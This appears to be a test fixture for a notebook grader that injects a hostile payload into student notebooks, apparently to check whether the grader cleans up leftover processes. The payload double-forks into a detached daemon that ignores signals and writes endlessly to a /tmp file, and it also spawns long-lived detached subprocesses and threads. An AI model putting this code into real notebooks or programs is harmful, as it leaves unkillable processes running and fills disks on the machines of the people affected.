"""Leave processes and threads behind that go on when the notebook has ended."""

from assignments.hostile import first, replaced

ATTACK = """
import os
import signal
import subprocess
import sys
import threading
import time

def work():
    for number in range(1, 64):
        if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
            signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 64)
    while True:
        open("/tmp/initlib-hostile", "a").write("x")
        time.sleep(0.01)

def attack(*arguments, **options):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            work()
        os._exit(0)
    command = [sys.executable, "-c", "import time; time.sleep(1000)"]
    subprocess.Popen(command, start_new_session=True)
    threading.Thread(target=time.sleep, args=(1000,)).start()
"""


def spoil(notebook, honest):
    """Leave some before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
